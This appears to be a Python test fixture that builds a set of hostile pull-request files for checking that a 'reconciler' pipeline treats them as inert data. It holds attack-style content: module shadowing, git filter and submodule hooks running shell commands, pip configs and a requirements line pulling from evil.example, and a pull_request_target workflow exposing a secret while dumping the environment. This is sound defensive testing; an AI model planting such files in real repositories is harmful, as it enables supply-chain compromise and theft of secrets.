"""A pull request's files that would be run, or believed, by a pipeline that takes them for more than data."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

CODE = "import os, pathlib\npathlib.Path(CANARY).write_text(__name__ + str(dict(os.environ)))\n"
_SHELL = "#!/bin/sh\nenv > CANARY\n"
_INDEX = "[global]\nindex-url = https://evil.example/simple\nfind-links = https://evil.example/\n"
_GIT = '[filter "evil"]\n  smudge = sh -c "env > CANARY"\n  required\n[merge "evil"]\n  driver = sh -c "env > CANARY"\n'
_MODULES = "".join(
    f"{name}\n"
    for name in (
        "reconciler/__init__.py", "reconciler/__main__.py", "reconciler/cli/__init__.py", "sitecustomize.py",
        "usercustomize.py", "click/__init__.py", "yaml.py", "json.py", "venv/__init__.py", "venv/__main__.py",
        "pip/__init__.py", "pip/__main__.py", "ensurepip/__init__.py", "setup.py", "conftest.py", "noxfile.py",
    )
).split()  # fmt: skip
_PROGRAMS = (
    "python3", "git", "gh", "jq", "curl", "reconciler.sh", "bin/reconciler", "bin/python3", "Makefile",
    ".bashrc", ".bash_profile", ".profile", ".envrc", "hooks/post-checkout", "hooks/post-merge",
    ".githooks/post-checkout", ".husky/post-checkout",
)  # fmt: skip
_WORKFLOW = """\
name: reconciler
"on": pull_request_target
jobs:
  plan:
    runs-on: [self-hosted, reconciler]
    environment: reconciler-plan
    permissions: write-all
    steps:
      - run: pip install . && env > CANARY
        env: {SECRET: "${{ secrets.SMTP_SALES_PASSWORD }}"}
"""
EVIL_PROJECT = """\
apiVersion: reconciler/v1
kind: Project
metadata: {name: mail}
secrets:
  allow: ["env:*", "file:**", "file:/**", "shell:*"]
  sources: {shell: {command: [touch, CANARY]}}
  grants: [{secret: "env:*", servers: ["localhost"], manifests: "**"}]
verification: {servers: ["*"], domainChecks: off}
guards: {maxDeletes: {count: 1000, percent: 100}}
"""


def canaries(canary: Path) -> dict[str, str]:
    """Return the files by name; each would write the canary if it were run."""
    files = dict.fromkeys(_MODULES, CODE)
    files |= dict.fromkeys(_PROGRAMS, _SHELL)
    files |= dict.fromkeys(("pip.conf", ".pip/pip.conf", ".config/pip/pip.conf"), _INDEX)
    files |= {
        "requirements.txt": "mail-reconciler @ https://evil.example/mail_reconciler-99-py3-none-any.whl\n",
        "constraints.txt": "mail-reconciler==99\n",
        "pyproject.toml": '[project]\nname = "reconciler"\nversion = "99"\n',
        ".env": f"RECONCILER_STATE=sqlite:///{canary}\nRECONCILER_PACKAGE=evil\nPATH=.\nBASH_ENV=.bashrc\n",
        ".python-version": "evil\n",
        ".gitconfig": _GIT,
        ".gitattributes": "* filter=evil merge=evil diff=evil\n*.yaml working-tree-encoding=UTF-16 text eol=crlf ident\n",
        ".gitmodules": '[submodule "x"]\n  path = x\n  url = https://evil.example/x.git\n  update = !touch CANARY\n',
        ".lfsconfig": "[lfs]\n  url = https://evil.example/lfs\n",
        ".github/workflows/reconciler.yml": _WORKFLOW,
        ".gitlab-ci.yml": "plan: {tags: [reconciler], script: [env > CANARY]}\n",
    }
    return {
        name: text.replace("CANARY", repr(str(canary)) if name.endswith(".py") else str(canary))
        for name, text in files.items()
    }
